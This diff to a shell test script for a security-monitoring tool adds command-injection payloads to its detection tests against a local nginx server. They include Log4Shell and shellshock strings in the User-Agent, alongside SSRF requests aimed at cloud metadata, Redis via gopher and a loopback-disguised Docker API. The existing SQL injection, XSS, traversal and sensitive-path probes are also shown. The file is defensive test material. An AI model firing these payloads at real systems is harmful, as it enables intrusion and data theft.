@@ -5,7 +5,9 @@
 # traffic. nginx with HTTP basic auth takes a password brute force (one
 # auth_failure_burst for the burst, not one per try); curl sends SQL
 # injection, XSS, traversal and sensitive-path requests taken from the
-# corpora in tests/data/security (each one event of its type) and a 404
+# corpora in tests/data/security, command injection (shell, Log4Shell and
+# shellshock, the last two also in the User-Agent) and SSRF (metadata,
+# gopher, disguised loopback) requests (each one event of its type) and a 404
 # sweep (one scanner event); benign requests with apostrophes and SQL words
 # in prose raise nothing. A set-user-ID-root helper run by an unprivileged
 # user gives privilege_escalation events (the exec, and with capture.hooks:
@@ -65,7 +67,15 @@ SQLI=("/search?q=%27%20OR%20%271%27%3D%271" "/search?id=1%20UNION%20SELECT%20NUL
 XSS=("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" "/p?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
 TRAV=("/static/..%2f..%2f..%2fsrv%2fdata.txt" "/download?file=..%2F..%2F..%2Fopt%2Fapp%2Fconfig.yml")
 SENS=("/.env" "/.git/config" "/wp-login.php")
-for p in "${SQLI[@]}" "${XSS[@]}" "${TRAV[@]}" "${SENS[@]}"; do get "$URL$p"; done
+CMDI=("/ping?host=127.0.0.1%3Bid" "/exec?cmd=%24(whoami)" "/?q=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D")
+SSRF=("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"
+	"/fetch?url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_x" "/proxy?u=http%3A%2F%2F0x7f000001%3A2375%2Fv1")
+for p in "${SQLI[@]}" "${XSS[@]}" "${TRAV[@]}" "${SENS[@]}" "${CMDI[@]}" "${SSRF[@]}"; do
+	get "$URL$p"
+done
+# Log4Shell and shellshock in the User-Agent: two more command injections
+get -A '${jndi:ldap://10.0.0.1/a}' "$URL/index.html"
+get -A '() { :; }; /bin/bash -c id' "$URL/small.txt"
 
 bt_log "a 404 sweep from one client"
 for i in $(seq 1 25); do get "$URL/nothing-here-$i"; done
@@ -143,6 +153,8 @@ sql_injection high ${#SQLI[@]}
 xss high ${#XSS[@]}
 path_traversal high ${#TRAV[@]}
 sensitive_path_access medium ${#SENS[@]}
+command_injection high $((${#CMDI[@]} + 2))
+ssrf high ${#SSRF[@]}
 scanner medium 1
 privilege_escalation critical $PRIV
 data_exfiltration critical 1
